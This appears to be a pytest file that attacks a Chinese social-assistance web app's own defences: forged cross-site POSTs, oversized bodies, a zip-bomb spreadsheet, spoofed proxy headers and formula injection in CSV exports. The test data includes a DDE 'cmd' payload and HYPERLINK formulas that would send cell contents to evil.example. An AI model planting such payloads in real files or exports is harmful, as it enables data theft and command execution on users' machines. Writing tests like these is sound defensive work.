"""The web layer's defences, each shown by performing the attack over HTTP: a forged POST with
no Origin, framing and sniffing (headers), oversized bodies and zip bombs, spreadsheet formulas
in exports, ID numbers in URLs, and a spoofed client address behind a proxy."""

from __future__ import annotations

import csv
import io
import re
import socket
import zipfile
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import urlsplit

from fastapi.testclient import TestClient
from sqlmodel import Session, select

from tests.zhuanjie.conftest import running_server
from tests.zhuanjie.factories import (
    RUGAO_TOWN,
    make_household,
    make_need,
    make_offer,
    make_org,
    make_user,
    valid_id,
)
from zhuanjie.clock import frozen, today
from zhuanjie.config import get_settings
from zhuanjie.db import get_session
from zhuanjie.main import create_app
from zhuanjie.models import AuditEntry, Household, Member, Referral

PASSWORD = "secret-pass-1"
ROOT = Path(__file__).resolve().parents[2]


def _app_on(session: Session):
    """create_app() as it is configured now (tests change settings first)."""
    application = create_app()

    def request_session() -> Iterator[Session]:
        try:
            yield session
        finally:
            session.rollback()

    application.dependency_overrides[get_session] = request_session
    return application


def _sign_in(client: TestClient, username: str) -> TestClient:
    response = client.post("/login", data={"username": username, "password": PASSWORD},
                           follow_redirects=False)
    assert response.status_code == 303, response.text
    return client


# --- cross-site -------------------------------------------------------------------------------


def test_a_cookie_post_with_neither_origin_nor_referer_is_refused(app, session):
    user = make_user(session, "caseworker")
    form = {"head_name": "李秀英", "head_id_number": valid_id(), "region_path": RUGAO_TOWN,
            "village": "白蒲社区", "income_per_capita": "600", "groups": ["dibao"]}
    with TestClient(app) as bare:  # sends no Origin and no Referer, like a forged request
        _sign_in(bare, user.username)
        forged = bare.post("/households/new", data=form)
        assert forged.status_code == 403 and "不是从本站页面发出的" in forged.text
        api = bare.post("/api/v1/households/search", json={"q": "王"})
        assert api.status_code == 403 and "不是从本站页面发出的" in api.json()["detail"]
        assert session.exec(select(Household)).all() == []
        ours = bare.post("/households/new", data=form, headers={"Referer": "http://testserver/x"},
                         follow_redirects=False)
        assert ours.status_code == 303
    # Programs with a token send no Origin and are not affected.
    with TestClient(app) as program:
        token = program.post("/api/v1/auth/token", json={"username": user.username,
                                                         "password": PASSWORD, "name": "脚本"})
        assert token.status_code == 201
        found = program.post("/api/v1/households/search", json={"q": "李秀英"},
                             headers={"Authorization": f"Bearer {token.json()['token']}"})
        assert found.status_code == 200 and found.json()["total"] == 1


# --- headers ----------------------------------------------------------------------------------


def _csp(response) -> dict[str, str]:
    policy = response.headers["content-security-policy"]
    return {part.split()[0]: part for part in (p.strip() for p in policy.split(";")) if part}


def test_every_response_carries_the_security_headers(app, session):
    user = make_user(session, "caseworker")
    make_household(session, user)
    with TestClient(app, headers={"Origin": "http://testserver"}) as client:
        anonymous = [client.get(p) for p in ("/login", "/healthz", "/no-such-page",
                                             "/static/site.css", "/docs", "/directory")]
        _sign_in(client, user.username)
        signed_in = [client.get(p) for p in ("/", "/households", "/households/999999",
                                             "/api/v1/households")]
        refused = client.post("/households/new", data={}, headers={"Origin": "https://x.example"})
    for response in [*anonymous, *signed_in, refused]:
        policy = _csp(response)
        assert "'unsafe-inline'" not in policy["script-src"], response.url
        assert "'unsafe-eval'" not in policy["script-src"]
        assert policy["frame-ancestors"] == "frame-ancestors 'none'"
        assert response.headers["x-content-type-options"] == "nosniff"
        assert response.headers["referrer-policy"] == "same-origin"
        assert "strict-transport-security" not in response.headers  # local mode
    for response in signed_in:  # pages and API answers with personal data
        assert response.headers["cache-control"] == "no-store", response.url
    assert signed_in[1].status_code == 200 and "王建国" in signed_in[1].text
    docs = anonymous[4]
    nonce = re.search(r"'nonce-([^']+)'", docs.headers["content-security-policy"]).group(1)
    scripts = re.findall(r"<script([^>]*)>", docs.text)
    assert scripts and all("src=" in s or f'nonce="{nonce}"' in s for s in scripts)


def test_production_adds_hsts(session, monkeypatch):
    settings = get_settings()
    monkeypatch.setattr(settings, "mode", "production")
    with TestClient(_app_on(session)) as client:
        response = client.get("/login")
    assert response.headers["strict-transport-security"].startswith("max-age=31536000")


def test_no_template_runs_inline_script():
    """The policy forbids inline script; the pages must not need it."""
    offenders = []
    for path in (ROOT / "templates").rglob("*.html"):
        text = path.read_text(encoding="utf-8")
        for tag in re.findall(r"<script\b[^>]*>", text, flags=re.I):
            if "src=" not in tag:
                offenders.append((path.name, tag))
        offenders += [(path.name, m) for m in re.findall(r"\son[a-z]+\s*=", text, flags=re.I)]
        offenders += [(path.name, m) for m in re.findall(r"javascript:", text, flags=re.I)]
    assert offenders == []


# --- request bodies -----------------------------------------------------------------------------


def _raw_request(base: str, head: bytes, body_parts: list[bytes]) -> bytes:
    """Send a request by hand and return the answer; stops sending once an answer came."""
    host, port = urlsplit(base).hostname, urlsplit(base).port
    with socket.create_connection((host, port), timeout=20) as sock:
        sock.sendall(head)
        for part in body_parts:
            try:
                sock.sendall(part)
            except (BrokenPipeError, ConnectionResetError):
                break
        chunks = []
        while True:
            try:
                data = sock.recv(65536)
            except ConnectionResetError:
                break
            if not data:
                break
            chunks.append(data)
            if b"\r\n\r\n" in b"".join(chunks) and b"</html>" in b"".join(chunks):
                break
        return b"".join(chunks)


def test_an_oversized_body_is_refused_before_it_is_read(database_url, monkeypatch):
    limit = 64 * 1024
    monkeypatch.setattr(get_settings(), "max_body_bytes", limit)
    with running_server(database_url) as base:
        # Declares 50 MB and sends only 1 KB: answered at once, nothing waited for.
        declared = _raw_request(
            base,
            b"POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded"
            b"\r\nContent-Length: 52428800\r\n\r\n",
            [b"username=a&password=" + b"b" * 1000],
        )
        assert declared.startswith(b"HTTP/1.1 413"), declared[:200]
        assert "提交的内容太大" in declared.decode("utf-8", "replace")
        # No length given: the chunks are counted and the request is cut off past the limit,
        # before the body's end (the final zero-length chunk is never sent).
        chunk = b"a" * 16384
        chunked = _raw_request(
            base,
            b"POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded"
            b"\r\nTransfer-Encoding: chunked\r\n\r\n",
            [b"%x\r\n%s\r\n" % (len(chunk), chunk) for _ in range(8)],
        )
        assert chunked.startswith(b"HTTP/1.1 413"), chunked[:200]
        # Under the limit the same form is read as usual (a wrong password, 400).
        small = _raw_request(
            base,
            b"POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded"
            b"\r\nContent-Length: 20\r\nConnection: close\r\n\r\n",
            [b"username=a&password=b"[:20]],
        )
        assert not small.startswith(b"HTTP/1.1 413"), small[:200]


def test_an_api_body_over_the_limit_is_413_in_json(session, monkeypatch):
    monkeypatch.setattr(get_settings(), "max_body_bytes", 1000)
    with TestClient(_app_on(session)) as client:
        response = client.post("/api/v1/auth/token", content=b"{" + b" " * 5000 + b"}",
                               headers={"Content-Type": "application/json"})
    assert response.status_code == 413
    assert "提交的内容太大" in response.json()["detail"]


def _workbook(rows: int) -> bytes:
    from openpyxl import load_workbook

    from zhuanjie.offers.bulk_format import template_xlsx

    book = load_workbook(io.BytesIO(template_xlsx()))
    sheet = book["项目"]
    example = [c.value for c in sheet[2]]
    for n in range(rows - 1):
        sheet.append([f"项目{n}"] + example[1:])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _replace_entry(content: bytes, name: str, change) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            target.writestr(info.filename, change(data) if info.filename == name else data)
    return out.getvalue()


def _upload(client, content: bytes):
    return client.post("/api/v1/offers/bulk", files={"file": ("项目.xlsx", content)})


def test_an_xlsx_that_unpacks_too_large_is_refused_unopened(session, client, monkeypatch):
    org = make_org(session)
    staff = make_user(session, "org_staff", organisation_id=org.id)
    _sign_in(client, staff.username)
    # A zip bomb in miniature: 200 KB of sheet XML (and more whitespace) that packs small.
    bomb = _replace_entry(_workbook(2), "xl/worksheets/sheet1.xml",
                          lambda xml: xml.replace(b"</sheetData>", b" " * 3_000_000
                                                  + b"</sheetData>"))
    assert len(bomb) < 60_000
    monkeypatch.setattr(get_settings(), "max_unpacked_bytes", 1_000_000)
    refused = _upload(client, bomb)
    assert refused.status_code == 200 and refused.json()["ok"] is False
    assert "解压后超过" in refused.json()["problem"]
    assert _upload(client, _workbook(2)).json()["ok"] is True  # a normal sheet still reads


def test_reading_an_xlsx_stops_at_the_row_limit(session, client):
    """Rows past the limit are never parsed: here they are not even well-formed XML, which
    would fail any reader that went on."""
    from zhuanjie.offers.bulk_format import MAX_ROWS

    org = make_org(session)
    staff = make_user(session, "org_staff", organisation_id=org.id)
    _sign_in(client, staff.username)
    broken_tail = b'<row r="99999"><c r="A99999" t="inlineStr"><is><t>x</t></is></c><oops></row>'
    sheet = _replace_entry(_workbook(MAX_ROWS + 5), "xl/worksheets/sheet1.xml",
                           lambda xml: xml.replace(b"</sheetData>", broken_tail + b"</sheetData>"))
    response = _upload(client, sheet)
    assert response.status_code == 200, response.text
    assert response.json()["problem"] == f"一次最多导入 {MAX_ROWS} 行，已停止读取"


# --- spreadsheet formulas ------------------------------------------------------------------------


def test_exported_cells_cannot_run_as_formulas(session, client):
    now = datetime(2026, 6, 15, 4, 0, tzinfo=UTC)
    with frozen(now):
        supervisor = make_user(session, "supervisor", region_path="南通市/如皋市")
        caseworker = make_user(session, "caseworker")
        org = make_org(session, name="@SUM(1+1)*cmd|' /C calc'!A0")
        offer = make_offer(session, org, title='=HYPERLINK("http://evil.example","点此领取")')
        need = make_need(session, caseworker, title="+1+1 透析费用负担重")
        session.add(Referral(need_id=need.id, offer_id=offer.id, organisation_id=org.id,
                             sent_at=now, updated_at=now, respond_by_at=now + timedelta(days=3)))
        session.commit()
        _sign_in(client, supervisor.username)
        response = client.get(f"/reports/referrals.csv?start={today() - timedelta(days=7)}"
                              f"&end={today()}")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8").lstrip("\ufeff"))))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["项目"] == "'" + offer.title
    assert row["服务机构"] == "'" + org.name
    assert row["需求标题"] == "'" + need.title
    for cell in rows[1]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_every_csv_and_sheet_writer_goes_through_one_function():
    """New exports cannot forget: only zhuanjie.spreadsheets makes a csv writer."""
    from zhuanjie.spreadsheets import safe_cell

    for value in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx"):
        assert safe_cell(value) == "'" + value
    assert safe_cell("正常文字") == "正常文字" and safe_cell(-3) == -3
    platform = ROOT / "platform" / "zhuanjie"
    users = [p.relative_to(platform).as_posix() for p in platform.rglob("*.py")
             if "csv.writer(" in p.read_text(encoding="utf-8")]
    assert users == ["spreadsheets.py"]


# --- ID numbers stay out of URLs ----------------------------------------------------------------


def test_search_by_id_number_goes_by_post_and_never_by_url(session, client):
    caseworker = make_user(session, "caseworker")
    number = valid_id()
    household = make_household(session, caseworker,
                               members=[{"name": "陆海燕", "id_number": number,
                                         "relation": "head"}])
    make_household(session, caseworker)
    _sign_in(client, caseworker.username)
    page = client.get("/households")
    assert 'method="post" action="/households"' in page.text
    found = client.post("/households", data={"q": number})
    assert found.status_code == 200
    assert f"/households/{household.id}" in found.text and "陆海燕" in found.text
    assert number not in "".join(re.findall(r'href="([^"]*)"', found.text))
    by_last4 = client.post("/households", data={"q": number[-4:]})
    assert "陆海燕" in by_last4.text
    in_url = client.get(f"/households?q={number}")
    assert in_url.status_code == 422 and "查找框" in in_url.text
    assert client.get(f"/households?q={number[-4:]}").status_code == 422
    api_url = client.get("/api/v1/households", params={"q": number})
    assert api_url.status_code == 422
    api = client.post("/api/v1/households/search", json={"q": number})
    assert api.status_code == 200 and [h["id"] for h in api.json()["items"]] == [household.id]


def test_search_form_value_is_kept_and_pages_go_by_post_too(session, client):
    caseworker = make_user(session, "caseworker")
    for _ in range(31):
        make_household(session, caseworker, village="东陈村",
                       members=[{"name": "张明", "id_number": valid_id(), "relation": "head"}])
    _sign_in(client, caseworker.username)
    first = client.post("/households", data={"q": "东陈"})
    assert "第 1/2 页" in first.text and 'value="东陈"' in first.text
    assert '<input type="hidden" name="page" value="2">' in first.text
    second = client.post("/households", data={"q": "东陈", "page": "2"})
    assert "第 2/2 页" in second.text


# --- the client's address behind a proxy -------------------------------------------------------


def _reveal_from(session, app, peer: str, forwarded: str | None) -> str:
    caseworker = make_user(session, "caseworker")
    household = make_household(session, caseworker)
    member_id = session.exec(select(Member.id).where(Member.household_id == household.id)).first()
    headers = {"Origin": "http://testserver"}
    if forwarded:
        headers["X-Forwarded-For"] = forwarded
    with TestClient(app, client=(peer, 40000), headers=headers) as client:
        _sign_in(client, caseworker.username)
        response = client.post(f"/households/{household.id}/members/{member_id}/reveal",
                               data={"field": "id_number"})
        assert response.status_code == 200
    entry = session.exec(select(AuditEntry).where(AuditEntry.action == "reveal_id_number")
                         .order_by(AuditEntry.id.desc())).first()
    return entry.ip


def test_behind_a_trusted_proxy_the_audit_log_has_the_clients_address(app, session,
                                                                      monkeypatch):
    monkeypatch.setattr(get_settings(), "trusted_proxies", "10.0.0.0/24, 10.0.1.7")
    # The client put a made-up address first; the two proxies appended what they saw.
    ip = _reveal_from(session, app, "10.0.1.7", "198.51.100.66, 203.0.113.9, 10.0.0.3")
    assert ip == "203.0.113.9"


def test_an_untrusted_peer_cannot_choose_the_address_that_is_logged(app, session,
                                                                    monkeypatch):
    monkeypatch.setattr(get_settings(), "trusted_proxies", "10.0.0.0/24")
    assert _reveal_from(session, app, "192.0.2.50", "203.0.113.9") == "192.0.2.50"
    monkeypatch.setattr(get_settings(), "trusted_proxies", "")
    assert _reveal_from(session, app, "10.0.0.3", "203.0.113.9") == "10.0.0.3"


def test_the_donors_download_neutralises_a_formula_in_a_thank_you_note(session, client, login):
    from tests.zhuanjie.test_publication import publish_need
    from zhuanjie.donors import cache

    cache.clear()
    worker, _need, pub = publish_need(session, client, login)
    donor = make_user(session, "donor", display_name="爱心人士王先生")
    client.post("/logout")
    login(donor.username)
    pledge = client.post("/api/v1/pledges", json={"publication_id": pub["id"], "kind": "money",
                                                  "amount": "500"}).json()
    client.post("/logout")
    login(worker.username)
    assert client.post(f"/pledges/{pledge['id']}/confirm",
                       follow_redirects=False).status_code == 303
    note = '=HYPERLINK("http://evil.example/?"&A1,"谢谢您")'
    assert client.post(f"/pledges/{pledge['id']}/deliver", data={"thank_you_note": note},
                       follow_redirects=False).status_code == 303
    client.post("/logout")
    login(donor.username)
    body = client.get("/donor/pledges.csv").content.decode("utf-8").lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(body)))
    assert dict(zip(rows[0], rows[1], strict=True))["感谢留言"] == "'" + note
    cache.clear()
